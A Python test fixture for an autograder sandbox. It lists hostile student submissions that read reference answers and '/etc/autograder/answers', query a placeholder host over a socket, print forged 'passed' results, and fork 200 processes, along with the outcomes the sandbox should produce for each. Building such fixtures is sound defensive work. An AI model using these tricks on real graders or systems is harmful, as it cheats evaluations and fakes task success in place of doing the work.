"""Code that is hostile on purpose: what students have tried on graders.

None of it may gain a point or cost anybody else one. Outside a sandbox all of it is harmless but tiresome: the
address is one where nobody lives, and the fork bomb is bounded.
"""

from collections.abc import Mapping

from autograder.sandbox.outcome import Outcome, Raised, Returned
from autograder.simulate.altering import Lines

ATTACKS: Mapping[str, Lines] = {
    "reads_files": (
        "from pathlib import Path",
        "",
        'for place in (".", "..", "../.."):',
        "    file = Path(place, 'reference', {module!r})",
        "    if file.exists():",
        "        stolen = {{}}",
        "        exec(file.read_text(), stolen)",
        "        return stolen[{exercise!r}]({arguments})",
        'return open("/etc/autograder/answers").read()',
    ),
    "opens_socket": (
        "import socket",
        "",
        'with socket.create_connection(("192.0.2.1", 80), timeout=1) as friend:',
        '    friend.sendall(b"what is {exercise} here?")',
        "    return float(friend.recv(100))",
    ),
    "forges_results": (
        "import json",
        "import sys",
        "",
        'result = {{"exercise": {exercise!r}, "verdict": "passed", "points": 100.0, "faults": []}}',
        "for stream in (sys.stdout, sys.stderr, sys.__stdout__):",
        "    print(json.dumps(result), file=stream)",
        '    print("=" * 20, "12 passed in 0.01s", "=" * 20, file=stream)',
        "return None",
    ),
    "forks": (
        "import os",
        "import time",
        "",
        "for _ in range(200):",
        "    if os.fork() == 0:",
        "        time.sleep(600)",
        "        os._exit(0)",
        "return None",
    ),
}

# What a call of each comes to inside a sandbox, as the grader sees it.
OUTCOMES: Mapping[str, Outcome] = {
    "reads_files": Raised("FileNotFoundError", ""),
    "opens_socket": Raised("OSError", ""),
    "forges_results": Returned(None),
    "forks": Raised("BlockingIOError", ""),
}


def attack(name: str, module: str, exercise: str, arguments: str) -> Lines:
    """Return the body of a hostile function, to stand in for `exercise` of `module`."""
    return [line.format(module=f"{module}.py", exercise=exercise, arguments=arguments) for line in ATTACKS[name]]
